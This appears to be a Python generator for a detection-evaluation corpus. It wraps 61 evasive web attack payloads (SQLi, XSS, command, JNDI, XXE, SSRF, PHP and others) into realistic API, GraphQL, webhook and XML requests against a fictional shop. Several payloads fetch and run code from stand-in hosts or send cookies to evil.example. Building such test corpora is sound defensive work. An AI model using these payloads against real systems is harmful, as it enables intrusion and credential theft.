"""An eighth, held-out corpus for `make eval-detection`: a modern API-first
shop (a mobile app and a single-page app talking JSON to `/api/v2/...`,
GraphQL at `/graphql`, webhooks from payment and shipping providers, an
admin panel with forms, a few XML/SOAP partner integrations), attacked by
scanners and by a careful human who uses WAF evasions. About 600 attack
requests and about 250 benign ones. It was written without reading the
rules, the detectors, the documentation or the reports of earlier runs,
nor the payloads and texts of the other corpora, and committed before its
first run: that run measures how the detection generalises.

Attacks: 61 new payloads of the 13 classes (sqli, xss, path_traversal,
cmdi, ldap, crlf, ssi, ssti, nosql, xxe, jndi, php, ssrf), 4 or 5 each,
most of them evasive: SQL with mixed case, `/*!50000...*/` and `/**/`
comments, vertical tabs, `CHAR()` and `0x` literals, scientific notation,
and injection into a `price:asc` sort expression; XSS without parentheses
(`` prompt`8` ``, `onerror=eval;throw'...'`), with entity-encoded
`javascript:`, MathML and unicode-escaped JS in an attribute; traversal
with `....//`, backslashes, `..;/` and a NUL before an extension; shell
with `c\\at`, `''`, `$@`, `${IFS}`, `${HOME:0:1}`, `/e??/p?ss??`, a bare
newline, `printf` hex and cmd.exe carets; LDAP nested filters, a matching
rule OID and percent-encoded `*`; CR/LF as CRLF, bare LF, bare CR and as
U+560D U+560A; SSI with mixed case, a tab and variable indirection; SSTI
with `\\x5f` escapes, a Thymeleaf `char[]`, FreeMarker and string
concatenation; NoSQL operator objects (`$ne`, `$regex`, `$where`, `$gt`)
and a `$where` string injection; XXE with an out-of-band parameter entity,
whitespace in the DOCTYPE, XInclude, a UTF-16LE document and a php://
filter in SOAP; Log4Shell with `lower`, `::-`, `env` and `date` lookups
and a `#` host trick; PHP filter chains, `data://` with base64, short
tags with backticks, `str_rot13` variable functions and `phar://`; SSRF
to decimal, octal, IPv4-mapped IPv6 and `127.1` addresses, userinfo
confusion and a wildcard-DNS name for `0.0.0.0`.

Each payload goes to 5 of 12 placements, dealt from a per-class shuffle
(every class reaches every placement; an XXE payload always reaches
`xml`, there in `plain` as the whole body), in 2 encodings each:

  query           a query-string value of an API GET (NoSQL objects in
                  `plain`: `password[$ne]=`)
  path            one path segment (`/` in it is sent as %2F)
  form            a field of an admin-panel urlencoded form (NoSQL objects
                  in `plain`: bracketed names)
  json            a value in a JSON API body (NoSQL objects in `plain` and
                  `json_unicode`: as structure)
  json_array      a value in an object inside an array (cart lines, a JSON
                  Patch document, address lists)
  graphql_var     a GraphQL variable: {"query": "...", "variables": {...}}
  graphql_inline  a GraphQL string argument inside the query text (GraphQL
                  string escapes; POST, or GET /graphql?query=)
  xml             the text of an XML element (partner XML or SOAP); XXE in
                  `plain` is the whole body (payloads holding NUL or VT,
                  which XML cannot carry, skip this placement)
  webhook         a field of a payment or shipping provider's webhook JSON,
                  with its signature headers
  header          a custom API header (X-Client-Version, X-Device-Id,
                  X-Locale, X-Search, X-Tenant-Id, ...)
  cookie          a cookie value among ordinary ones
  user_agent      the User-Agent (whole, or after the app's own)

Encodings are what the application sees after the placement's ordinary
decoding (query, path and form percent-decoding, the JSON, GraphQL or XML
parser): `plain`, `url` (percent-encoded once more), `double_url`,
`base64` (the whole value, standard and padded), `json_unicode` (every
character a \\uXXXX escape; JSON, array, GraphQL variable and webhook
only; a NoSQL object's keys and strings escaped the same way) and `mixed`
(some characters percent-encoded, hex in mixed case). Each placement has
its own encoding rotation; about a fifth of the attacks are base64. Header
and cookie values send CR, LF and other controls (and in cookies `;`) as
%XX (generate.header_safe).

Benign: about 250 requests of 17 kinds, one per entry written for this
file, weighted toward API traffic: app searches with filters, sort
expressions and base64 cursors, SPA searches, cart/order/address JSON,
JWT bearer calls, GraphQL queries and mutations with prose in variables,
payment and shipping webhooks with signatures, admin product forms with
rich-text HTML and SEO fields, internal notes with SQL- and shell-like
words, CSV imports, support chat, reviews, names and addresses with
apostrophes and non-Latin scripts, OAuth/OIDC callbacks, avatar uploads
as data URLs, long analytics and consent cookies, unusual but legitimate
header values, and XML (SOAP, a sitemap, a carrier's tracking update, a
product feed, an invoice).

Every payload and text was written for this file. Tokens, ids, cookies,
signatures and the `mixed` encoding come from fixed seeds; the output is
deterministic.

Usage: eighth_corpus.py OUT_FILE
"""
import base64
import hashlib
import hmac
import json
import random
import sys
import urllib.parse
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import generate as g  # noqa: E402

SEED = 8808
HOST = g.HOST
PLACEMENTS_PER_PAYLOAD = 5
PLACEMENTS = ["query", "path", "form", "json", "json_array", "graphql_var", "graphql_inline", "xml", "webhook",
              "header", "cookie", "user_agent"]
JSON_PLACEMENTS = {"json", "json_array", "graphql_var", "webhook"}

# ---------------------------------------------------------------- attacks
#
# Payloads that are dicts are NoSQL operator objects: sent as structure
# where the placement has structure, as compact JSON text elsewhere.

PHP_DROPPER = "<?php passthru($_REQUEST['x']); ?>"

ATTACKS = {
    "sqli": [
        "0' /*!50000uNiOn*/ /*!50000SeLeCt*/ email,password_hash,3 fRoM customers-- -",
        "price:asc,(SELECT CASE WHEN (ASCII(SUBSTR(current_user,1,1))>100) THEN 1 ELSE 1/0 END)",
        "1e0UnIoN(SeLeCt(group_concat(table_name))fRoM(information_schema.tables))",
        "nobody'\x0bOR\x0bemail\x0bLIKE\x0bCONCAT(CHAR(37),0x40,CHAR(37))\x0b#",
        "5'||(SELECT/**/pg_sleep(7))||'",
    ],
    "xss": [
        '"><sVg/oNlOaD=prompt`8`>',
        r"""<img src=/ onerror="window.onerror=eval;throw'=alert\x28document.cookie\x29'">""",
        """<a href="jav&#x09;ascript&colon;fetch('//evil.example/'+document.cookie)">tap</a>""",
        '<math><mi xlink:href="java&#115;cript:alert(9)">tap</mi></math>',
        r"<details open ontoggle=\u0061\u006cert(origin)>",
    ],
    "path_traversal": [
        "....//....//....//etc/passwd",
        r"..\..\..\..\Windows\System32\drivers\etc\hosts",
        "..;/..;/..;/WEB-INF/web.xml",
        "../../../../etc/passwd\x00.png",
    ],
    "cmdi": [
        r";c\at${IFS}/e??/p?ss??",
        "a.jpg;${HOME:0:1}usr${HOME:0:1}bin${HOME:0:1}id",
        "127.0.0.1\ncu$@rl${IFS}-s${IFS}http://198.51.100.9/x|s''h",
        r"$($(printf '\x63\x61\x74') /etc/hostname)",
        '&p^o^w^e^r^s^h^e^l^l -nop -c "iwr 198.51.100.9/s|iex"',
    ],
    "ldap": [
        "jdoe)(|(memberOf=cn=admins,ou=groups,dc=shop,dc=example)(uid=*))",
        "svc-backup)(!(userAccountControl:1.2.840.113556.1.4.803:=2)",
        "%2A)(&(objectCategory=person)(description=%2Apass%2A))(cn=%2a",
        "x))(|(&(uid=admin)(userPassword=a*))",
    ],
    "crlf": [
        "en\r\nSet-Cookie: sid=fixated-by-attacker; Path=/; HttpOnly",
        "/welcome\u560d\u560aSet-Cookie: role=admin",
        "x\nContent-Type: text/html\n\n<h1>Maintenance: please log in at evil.example</h1>",
        "billing@shop.example\r\nBcc: harvest@evil.example\r\nX-Mailer: x",
        "/cart\rLocation: https://evil.example/cart",
    ],
    "ssi": [
        '<!--#ExEc cmd="wget -qO- 198.51.100.9/s|sh"-->',
        '<!--#include virtual="/../../../etc/passwd" -->',
        '<!--#config errmsg=""--><!--#exec\tcgi="/cgi-bin/status.cgi"-->',
        '<!--#set var="c" value="id" --><!--#exec cmd="$c" -->',
    ],
    "ssti": [
        r'{{ lipsum|attr("\x5f\x5fglobals\x5f\x5f")|attr("get")("os")|attr("popen")("id")|attr("read")() }}',
        "*{T(java.lang.Runtime).getRuntime().exec(new String(new char[]{105,100}))}",
        '<#assign run="freemarker.template.utility.Execute"?new()>${run("uname -a")}',
        "{%set b=self.__init__.__globals__.__builtins__%}{{b['__imp'+'ort__']('os').popen('hostname').read()}}",
    ],
    "nosql": [
        {"$ne": None},
        {"$regex": "^adm", "$options": "i"},
        {"$where": "this.role=='admin'||sleep(3000)"},
        {"$gt": ""},
        "x' || this.password.match(/^a/) || 'x",
    ],
    "xxe": [
        '<?xml version="1.0"?>\n<!DOCTYPE r [\n  <!ENTITY % remote SYSTEM "http://198.51.100.9/ev.dtd">\n  %remote;\n'
        '  %stage;\n]>\n<r>&leak;</r>',
        '<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE\n\torder\n\t[<!ENTITY\n\tsku\tSYSTEM\n\t'
        '"file:///etc/hostname"\n>]><order><sku>&sku;</sku></order>',
        '<order xmlns:xi="http://www.w3.org/2001/XInclude"><note><xi:include parse="text" '
        'href="file:///etc/passwd"/></note></order>',
        '<?xml version="1.0" encoding="UTF-16LE"?><!DOCTYPE q [<!ENTITY h SYSTEM "file:///etc/shadow">]><q>&h;</q>',
        '<?xml version="1.0"?><!DOCTYPE soap:Envelope [<!ENTITY cfg SYSTEM '
        '"php://filter/convert.base64-encode/resource=/var/www/shop/.env">]><soap:Envelope '
        'xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetQuote><sku>&cfg;</sku>'
        '</GetQuote></soap:Body></soap:Envelope>',
    ],
    "jndi": [
        "${${lower:J}${lower:N}${lower:D}${lower:I}:ldap://198.51.100.9/o}",
        "${${::-j}ndi:${::-r}mi://evil.example:1099/obj}",
        "${jn${env:NOTHING:-d}i:dns://${hostName}.oob.evil.example}",
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldaps://evil.example/z}",
        "${jndi:ldap://127.0.0.1#evil.example:1389/${sys:java.version}}",
    ],
    "php": [
        "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|"
        "convert.iconv.UTF16.UCS-2/resource=php://temp",
        "data://text/plain;base64," + base64.b64encode(PHP_DROPPER.encode()).decode(),
        "<?=`$_GET[0]`?>",
        "<?php $f=str_rot13('flfgrz');$f($_GET['q']);",
        "phar://./uploads/avatars/7781.jpg/payload.txt",
    ],
    "ssrf": [
        "http://2130706433:8080/actuator/env",
        "http://[::ffff:a9fe:a9fe]/latest/meta-data/iam/security-credentials/",
        "https://img.shop.example@127.1:2375/containers/json",
        "http://0251.0376.0251.0376/latest/user-data",
        "gopher://0.0.0.0.nip.io:6379/_INFO%0D%0AQUIT%0D%0A",
    ],
}

# The XXE document sent as UTF-16LE (no BOM) when it is the whole body, and
# base64-encoded from its UTF-16 bytes (with BOM).
UTF16 = {("xxe", 4)}
FORCED = {("xxe", n): "xml" for n in range(1, 6)}

# The application field each payload lands in (a class default, then
# per-payload overrides).
FIELD = {"sqli": "sort", "xss": "displayName", "path_traversal": "file", "cmdi": "host", "ldap": "username",
         "crlf": "returnTo", "ssi": "footer", "ssti": "greeting", "nosql": "password", "xxe": "document",
         "jndi": "referrer", "php": "template", "ssrf": "imageUrl"}
FIELD_OVERRIDE = {("sqli", 1): "category", ("sqli", 3): "id", ("sqli", 4): "email", ("sqli", 5): "coupon",
                  ("xss", 3): "website", ("xss", 4): "bio", ("cmdi", 2): "filename", ("crlf", 1): "lang",
                  ("crlf", 4): "email", ("nosql", 2): "username", ("nosql", 3): "filter", ("nosql", 4): "price",
                  ("nosql", 5): "name", ("php", 5): "avatar", ("ssrf", 5): "callbackUrl"}

# Per class: the API resource its query and path placements hit.
RESOURCE = {"sqli": "products", "xss": "profiles", "path_traversal": "downloads", "cmdi": "admin/diagnostics",
            "ldap": "staff", "crlf": "auth/logout", "ssi": "pages", "ssti": "gift-cards", "nosql": "customers",
            "xxe": "imports", "jndi": "events", "php": "themes", "ssrf": "media"}

HEADER_NAMES = ["X-Client-Version", "X-Device-Id", "X-Locale", "X-Search", "X-Tenant-Id", "X-Timezone",
                "X-App-Build", "X-Referral-Code", "X-Experiment", "X-Store-Id"]
COOKIE_NAMES = ["locale", "last_search", "currency", "store", "ref", "cart_note", "consent_ver", "ab_bucket"]

ENC_CYCLE = {
    "json": ["plain", "base64", "json_unicode", "mixed", "url", "plain", "double_url", "base64", "json_unicode",
             "mixed"],
    "other": ["plain", "base64", "url", "mixed", "double_url", "plain", "base64", "mixed", "url"],
}

APP_UAS = [
    "ShopKit/7.4.1 (com.shopexample.app; build:5120; iOS 18.1.1) Alamofire/5.9.1",
    "ShopKit/7.4.0 (com.shopexample.app; build:98311; Android 15; Pixel 8)",
    "ShopKit/7.3.2 CFNetwork/1568.200.51 Darwin/24.1.0",
    "okhttp/4.12.0",
]
BROWSER_UAS = [
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 "
    "Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
    "Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (Linux; Android 14; SM-A546B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
    "Mobile Safari/537.36",
]
LANGS = ["en-GB,en;q=0.9", "de-DE,de;q=0.9,en;q=0.6", "nl-NL,nl;q=0.9,en;q=0.7", "es-ES,es;q=0.9",
         "en-US,en;q=0.8", "pl-PL,pl;q=0.9,en-GB;q=0.5"]
CLIENT_VERSIONS = ["ios/7.4.1 (5120)", "android/7.4.0 (98311)", "web/2026.12.3", "ios/7.3.2 (5087)"]
SPA_PAGES = ["", "search?q=boots", "cart", "account/orders", "p/linen-shirt-sage", "checkout/payment"]
ADMIN_PAGES = ["admin/products", "admin/customers", "admin/orders", "admin/settings/store", "admin/staff"]

WEBHOOK_KEY = b"whsec_eighth_corpus_demo_key"


# ---------------------------------------------------------------- building blocks

def token(rng) -> str:
    """A bearer token the shop's identity service might issue (signature random)."""
    header = {"alg": "RS256", "typ": "JWT", "kid": "shop-" + rng.randbytes(4).hex()}
    now = 1767000000 + rng.randint(0, 500000)
    claims = {"iss": "https://id.shop.example", "sub": g.uuid4(rng),
              "aud": rng.choice(["shop-ios", "shop-android", "shop-web"]), "iat": now, "exp": now + 900,
              "scope": rng.choice(["orders:read cart:write profile", "openid profile email", "cart:write"])}
    compact = {"separators": (",", ":")}
    return (f"{g.b64url(json.dumps(header, **compact).encode())}.{g.b64url(json.dumps(claims, **compact).encode())}"
            f".{g.b64url(rng.randbytes(256))}")


def session_cookie(rng) -> str:
    return (f"sid={rng.randbytes(18).hex()}; _ga=GA1.1.{rng.randint(10**8, 10**9)}.{1766000000 + rng.randint(0, 10**6)}"
            f"; locale={rng.choice(['en-GB', 'de-DE', 'nl-NL'])}")


def app_headers(rng, accept="application/json"):
    return [["Host", HOST], ["User-Agent", rng.choice(APP_UAS)], ["Accept", accept],
            ["Accept-Language", rng.choice(LANGS)], ["Authorization", "Bearer " + token(rng)],
            ["X-Client-Version", rng.choice(CLIENT_VERSIONS)], ["X-Device-Id", g.uuid4(rng).upper()]]


def spa_headers(rng, accept="application/json, text/plain, */*"):
    return [["Host", HOST], ["User-Agent", rng.choice(BROWSER_UAS)], ["Accept", accept],
            ["Accept-Language", rng.choice(LANGS)], ["Accept-Encoding", "gzip, deflate, br, zstd"],
            ["Origin", f"https://{HOST}"], ["Referer", f"https://{HOST}/{rng.choice(SPA_PAGES)}"],
            ["Cookie", session_cookie(rng)], ["X-CSRF-Token", g.b64url(rng.randbytes(24))]]


def admin_headers(rng):
    page = rng.choice(ADMIN_PAGES)
    return [["Host", HOST], ["User-Agent", rng.choice(BROWSER_UAS[:3])],
            ["Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"],
            ["Accept-Language", rng.choice(LANGS)], ["Origin", f"https://{HOST}"],
            ["Referer", f"https://{HOST}/{page}"],
            ["Cookie", f"admin_session={g.b64url(rng.randbytes(30))}; sidebar=collapsed; tz=Europe%2FBerlin"]]


def client_headers(rng, accept=None):
    """The mobile app's or the single-page app's headers, plus tracing headers."""
    h = app_headers(rng) if rng.random() < 0.5 else spa_headers(rng)
    if accept:
        h = set_header(h, "Accept", accept)
    names = {x[0].lower() for x in h}
    return h + [x for x in g.api_headers(rng) if x[0].lower() not in names]


def set_header(h, name, value):
    """`h` with header `name` replaced by `value` (appended; Host stays first)."""
    return [x for x in h if x[0].lower() != name.lower()] + [[name, value]]


json_unicode = g.json_unicode


def json_unicode_doc(v) -> str:
    """`v` as JSON text with every character of every string (keys too) a \\uXXXX escape."""
    if isinstance(v, dict):
        return "{" + ",".join(f'"{json_unicode(k)}":{json_unicode_doc(x)}' for k, x in v.items()) + "}"
    if isinstance(v, list):
        return "[" + ",".join(json_unicode_doc(x) for x in v) + "]"
    if isinstance(v, str):
        return '"' + json_unicode(v) + '"'
    return json.dumps(v)


def mixed(text: str, rng) -> str:
    """Some characters percent-encoded (most often punctuation), hex in mixed case."""
    def pct(ch):
        return "".join(("%%%02X" if rng.random() < 0.5 else "%%%02x") % b for b in ch.encode())
    out = []
    for ch in text:
        p = 0.08 if ch.isascii() and ch.isalnum() else 0.55
        out.append(pct(ch) if rng.random() < p else ch)
    s = "".join(out)
    if s == text:
        i = next((i for i, ch in enumerate(text) if not ch.isalnum()), 0)
        s = text[:i] + pct(text[i]) + text[i + 1:]
    return s


def as_text(payload) -> str:
    return json.dumps(payload, separators=(",", ":")) if isinstance(payload, dict) else payload


def encoded(cls, n, payload, enc, rng) -> str:
    """The payload's text as the application sees it in `enc` (json_unicode is applied by the placement)."""
    text = as_text(payload)
    if enc == "base64" and (cls, n) in UTF16:
        return base64.b64encode(("\ufeff" + text).encode("utf-16-le")).decode()
    if enc == "mixed":
        return mixed(text, rng)
    if enc == "json_unicode":
        return text
    return g.encode(text, enc)


SENTINEL = "\u0000eighth-sentinel\u0000"


def json_value(payload, value, enc) -> str:
    """The JSON text of the value: structure for a NoSQL object in plain or json_unicode."""
    if isinstance(payload, dict) and enc == "plain":
        return json.dumps(payload, ensure_ascii=False)
    if isinstance(payload, dict) and enc == "json_unicode":
        return json_unicode_doc(payload)
    if enc == "json_unicode":
        return '"' + json_unicode(value) + '"'
    return json.dumps(value, ensure_ascii=False)


def json_with(doc, value_json) -> str:
    """`doc` (holding SENTINEL where the value goes) as JSON, SENTINEL replaced by `value_json`."""
    return json.dumps(doc, ensure_ascii=False).replace(json.dumps(SENTINEL, ensure_ascii=False), value_json)


def send_json(method, uri, h, body):
    return g.request(method, uri, h + [["Content-Type", "application/json"]], body)


def gql_string(s: str) -> str:
    """A GraphQL string literal holding `s`."""
    out = []
    for ch in s:
        if ch == "\\":
            out.append("\\\\")
        elif ch == '"':
            out.append('\\"')
        elif ch == "\n":
            out.append("\\n")
        elif ch == "\r":
            out.append("\\r")
        elif ch == "\t":
            out.append("\\t")
        elif ord(ch) < 0x20:
            out.append("\\u%04x" % ord(ch))
        else:
            out.append(ch)
    return '"' + "".join(out) + '"'


def xml_text(s: str) -> str:
    return g.xml_escape(s).replace("\r", "&#13;")


def signed(provider, body: str, rng):
    """A provider's webhook headers, with an HMAC of `body` under the corpus's demo key."""
    ts = 1767000000 + rng.randint(0, 900000)
    mac = hmac.new(WEBHOOK_KEY, f"{ts}.{body}".encode(), hashlib.sha256)
    delivery = g.uuid4(rng)
    if provider == "payflux":
        return [["Host", HOST], ["User-Agent", "PayFlux/1.0 (+https://payflux.example/docs/webhooks)"],
                ["Accept", "*/*; q=0.5, application/json"], ["PayFlux-Signature", f"t={ts},v1={mac.hexdigest()}"],
                ["PayFlux-Event-Id", "evt_" + rng.randbytes(12).hex()]]
    if provider == "parcelo":
        return [["Host", HOST], ["User-Agent", "Parcelo-Webhooks/2.3"], ["Accept", "application/json"],
                ["X-Parcelo-Topic", rng.choice(["shipment.updated", "tracking.updated", "label.created"])],
                ["X-Parcelo-Hmac-Sha256", base64.b64encode(mac.digest()).decode()],
                ["X-Parcelo-Delivery", delivery], ["X-Parcelo-Timestamp", str(ts)]]
    return [["Host", HOST], ["User-Agent", "Ledgerly-Hookshot/4.1"], ["Accept", "application/json"],
            ["X-Ledgerly-Signature-256", "sha256=" + mac.hexdigest()], ["X-Ledgerly-Delivery", delivery]]


# ---------------------------------------------------------------- attack placements

def field_for(cls, n):
    return FIELD_OVERRIDE.get((cls, n), FIELD[cls])


def place(cls, n, payload, pl, enc, rid):
    rng = random.Random(f"{SEED}/{rid}")
    field = field_for(cls, n)
    value = encoded(cls, n, payload, enc, rng)
    structure = isinstance(payload, dict) and enc == "plain"
    resource = RESOURCE[cls]

    if pl == "query":
        pairs = list(g.bracketed(field, payload)) if structure else [(field, value)]
        before = rng.choice([[("limit", "24")], [("locale", "en-GB")], []])
        after = rng.choice([[("sort", "price:asc")], [("fields", "id,name,price")], [("page", "2")], []])
        if field == "sort":
            after = [("limit", "24")]
        return g.request("GET", f"/api/v2/{resource}?" + g.bracketed_query(before + pairs + after), client_headers(rng))

    if pl == "path":
        seg = urllib.parse.quote(value, safe=":@!$&'()*+,;=")
        tail = rng.choice(["", "/details", "/preview", "/reviews"])
        method = rng.choice(["GET", "GET", "DELETE"])
        return g.request(method, f"/api/v2/{resource}/{seg}{tail}", client_headers(rng))

    if pl == "form":
        h = admin_headers(rng)
        csrf = ("_csrf", g.b64url(rng.randbytes(24)))
        pairs = list(g.bracketed(field, payload)) if structure else [(field, value)]
        section = rng.choice(["products/4471/edit", "customers/88213/edit", "settings/notifications",
                              "staff/search", "cms/pages/shipping-info/edit"])
        fields = [csrf, ("_method", "PUT")] + pairs + [("status", "active"), ("save", "Save changes")]
        return g.post_form(f"/admin/{section}", h, fields)

    if pl == "json":
        h = client_headers(rng)
        shape = rng.randrange(3)
        if shape == 0:
            doc = {field: SENTINEL, "locale": "en-GB", "clientTs": 1767012345 + rng.randint(0, 99999)}
            method, uri = "POST", f"/api/v2/{resource}"
        elif shape == 1:
            doc = {"data": {"type": resource.split("/")[-1], "attributes": {field: SENTINEL, "visible": True}}}
            method, uri = "PATCH", f"/api/v2/{resource}/{rng.randint(1000, 99999)}"
        else:
            doc = {"profile": {"id": g.uuid4(rng), "settings": {field: SENTINEL, "newsletter": False}}}
            method, uri = "PUT", "/api/v2/me"
        return send_json(method, uri, h, json_with(doc, json_value(payload, value, enc)))

    if pl == "json_array":
        h = client_headers(rng)
        shape = rng.randrange(3)
        if shape == 0:
            doc = {"cartId": "c_" + rng.randbytes(6).hex(),
                   "lines": [{"sku": f"KT-{rng.randint(100, 999)}", "qty": 1},
                             {"sku": f"MS-{rng.randint(100, 999)}", "qty": 2, field: SENTINEL}]}
            method, uri = "POST", "/api/v2/cart/lines"
        elif shape == 1:
            doc = [{"op": "test", "path": "/version", "value": rng.randint(2, 40)},
                   {"op": "replace", "path": f"/{field}", "value": SENTINEL}]
            method, uri = "PATCH", f"/api/v2/{resource}/{rng.randint(1000, 99999)}"
            h = h + [["If-Match", f'"{rng.randbytes(6).hex()}"']]
            return g.request(method, uri, h + [["Content-Type", "application/json-patch+json"]],
                             json_with(doc, json_value(payload, value, enc)))
        else:
            doc = {"addresses": [{"label": "Home", "city": "Leipzig", field: SENTINEL},
                                 {"label": "Work", "city": "Halle"}]}
            method, uri = "PUT", "/api/v2/me/addresses"
        return send_json(method, uri, h, json_with(doc, json_value(payload, value, enc)))

    if pl == "graphql_var":
        h = client_headers(rng)
        op = rng.randrange(3)
        if op == 0:
            name = "Search"
            query = ("query Search($term: String!, $first: Int!, $after: String) { productSearch(term: $term, "
                     "first: $first, after: $after) { edges { node { id name price { amount currency } } } "
                     "pageInfo { endCursor hasNextPage } } }")
            variables = {"term": SENTINEL, "first": 24, "after": None}
        elif op == 1:
            name = "UpdateProfile"
            query = "mutation UpdateProfile($input: ProfileInput!) { updateProfile(input: $input) { id displayName } }"
            variables = {"input": {field: SENTINEL, "locale": "en-GB"}}
        else:
            name = "Orders"
            query = ("query Orders($filter: OrderFilter, $first: Int) { orders(filter: $filter, first: $first) "
                     "{ nodes { id status total { amount currency } } } }")
            variables = {"filter": {field: SENTINEL, "status": "SHIPPED"}, "first": 10}
        doc = {"operationName": name, "query": query, "variables": variables}
        return send_json("POST", "/graphql", h, json_with(doc, json_value(payload, value, enc)))

    if pl == "graphql_inline":
        h = client_headers(rng)
        lit = gql_string(value)
        op = rng.randrange(3)
        if op == 0:
            query = "query { productSearch(term: @L, first: 12) { edges { node { id name } } } }"
        elif op == 1:
            query = "mutation { updateProfile(input: { @F: @L, locale: \"en-GB\" }) { id } }"
        else:
            query = "query { customer(id: \"C-4471\") { orders(@F: @L, first: 5) { nodes { id status } } } }"
        query = query.replace("@F", field).replace("@L", lit)
        if rng.random() < 0.25:
            return g.request("GET", "/graphql?" + urllib.parse.urlencode({"query": query}), h)
        return g.post_json("/graphql", h, {"query": query, "variables": {}})

    if pl == "xml":
        basic = base64.b64encode(b"erp-sync:" + rng.randbytes(9).hex().encode()).decode()
        h = [["Host", HOST], ["User-Agent", "ShopERP-Connector/3.2 (+https://erp.partner.example)"],
             ["Accept", "application/xml"], ["Authorization", "Basic " + basic]]
        if cls == "xxe" and enc == "plain":
            body = payload
            if (cls, n) in UTF16:
                return g.request("POST", "/api/v2/partners/orders", h + [["Content-Type", "application/xml; charset=utf-16le"]],
                                 "".join(ch + "\x00" for ch in body))
            return g.request("POST", "/api/v2/partners/orders", h + [["Content-Type", "application/xml"]], body)
        if rng.random() < 0.5:
            body = (f'<?xml version="1.0" encoding="UTF-8"?><stockUpdate xmlns="urn:shop:erp:1">'
                    f'<warehouse>LEJ-2</warehouse><item sku="KT-{rng.randint(100, 999)}"><qty>{rng.randint(1, 90)}</qty>'
                    f"<{field}>{xml_text(value)}</{field}></item></stockUpdate>")
            return g.request("POST", "/api/v2/partners/stock", h + [["Content-Type", "application/xml"]], body)
        body = ('<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" '
                'xmlns:inv="urn:shop:inventory"><soap:Header/><soap:Body><inv:Lookup>'
                f"<inv:{field}>{xml_text(value)}</inv:{field}><inv:max>20</inv:max></inv:Lookup></soap:Body></soap:Envelope>")
        return g.request("POST", "/soap/inventory", h + [["Content-Type", "text/xml; charset=utf-8"],
                                                         ["SOAPAction", '"urn:shop:inventory#Lookup"']], body)

    if pl == "webhook":
        provider = rng.choice(["payflux", "parcelo", "ledgerly"])
        if provider == "payflux":
            doc = {"id": "evt_" + rng.randbytes(10).hex(), "type": "payment_intent.succeeded", "livemode": True,
                   "data": {"object": {"id": "pi_" + rng.randbytes(10).hex(), "amount": rng.randint(900, 40000),
                                       "currency": "eur", "metadata": {"order_id": f"ord_{rng.randint(40000, 59999)}",
                                                                       field: SENTINEL}}}}
            uri = "/webhooks/payflux"
        elif provider == "parcelo":
            doc = {"event": "tracking.updated", "shipment": {"id": f"shp_{rng.randint(10**6, 10**7)}",
                                                             "carrier": "PARCELO",
                                                             "events": [{"status": "in_transit",
                                                                         "location": "Leipzig Hub",
                                                                         field: SENTINEL}]}}
            uri = "/webhooks/parcelo"
        else:
            doc = {"type": "invoice.finalized", "invoice": {"number": f"INV-2026-{rng.randint(1000, 9999)}",
                                                            "customer": {"reference": f"C-{rng.randint(1000, 9999)}",
                                                                         field: SENTINEL}}}
            uri = "/webhooks/ledgerly"
        body = json_with(doc, json_value(payload, value, enc))
        return send_json("POST", uri, signed(provider, body, rng), body)

    if pl == "header":
        name = HEADER_NAMES[rng.randrange(len(HEADER_NAMES))]
        h = set_header(client_headers(rng), name, g.header_safe(value))
        return g.request("GET", rng.choice(["/api/v2/me", "/api/v2/cart", f"/api/v2/{resource}",
                                            "/api/v2/recommendations?context=home"]), h)

    if pl == "cookie":
        name = COOKIE_NAMES[rng.randrange(len(COOKIE_NAMES))]
        v = g.header_safe(value).replace(";", "%3B")
        h = spa_headers(rng)
        h = set_header(h, "Cookie", f"sid={rng.randbytes(18).hex()}; {name}={v}; "
                                    f"_ga=GA1.1.{rng.randint(10**8, 10**9)}.{1766000000 + rng.randint(0, 10**6)}")
        return g.request("GET", rng.choice(["/api/v2/cart", "/api/v2/me", f"/api/v2/{resource}"]), h)

    if pl == "user_agent":
        v = g.header_safe(value)
        if rng.random() < 0.5:
            v = rng.choice(APP_UAS[:3]) + " " + v
        return g.request("GET", rng.choice(["/api/v2/config", "/api/v2/home", "/api/v2/cart"]),
                         set_header(client_headers(rng), "User-Agent", v))
    raise ValueError(pl)


def excluded(payload, pl):
    """XML 1.0 cannot carry NUL or vertical tab, even as character references."""
    return pl == "xml" and any(c in as_text(payload) for c in "\x00\x0b")


def deal_placements(cls):
    """Per payload, PLACEMENTS_PER_PAYLOAD distinct placements from a cyclic per-class shuffle."""
    order = random.Random(f"{SEED}-{cls}").sample(PLACEMENTS, len(PLACEMENTS))
    slot = 0
    for n, payload in enumerate(ATTACKS[cls], 1):
        chosen = []
        while len(chosen) < PLACEMENTS_PER_PAYLOAD:
            pl = order[slot % len(order)]
            slot += 1
            if pl not in chosen and not excluded(payload, pl):
                chosen.append(pl)
        forced = FORCED.get((cls, n))
        if forced and forced not in chosen:
            chosen[-1] = forced
        yield n, payload, chosen


def attacks():
    position = {pl: i for i, pl in enumerate(PLACEMENTS)}
    out = []
    for cls in ATTACKS:
        for n, payload, chosen in deal_placements(cls):
            for pl in chosen:
                cycle = ENC_CYCLE["json" if pl in JSON_PLACEMENTS else "other"]
                encs = []
                while len(encs) < 2:
                    e = cycle[position[pl] % len(cycle)]
                    position[pl] += 1
                    if e not in encs:
                        encs.append(e)
                if cls == "xxe" and pl == "xml" and "plain" not in encs:
                    encs[0] = "plain"
                for enc in encs:
                    rid = f"eighth-{cls}-{n:02d}-{pl}-{enc}"
                    out.append({"id": rid, "class": cls, "placement": pl, "encoding": enc,
                                **place(cls, n, payload, pl, enc, rid)})
    return out


# ---------------------------------------------------------------- benign
#
# Texts and documents written for this file. Each kind builds one request
# per entry.

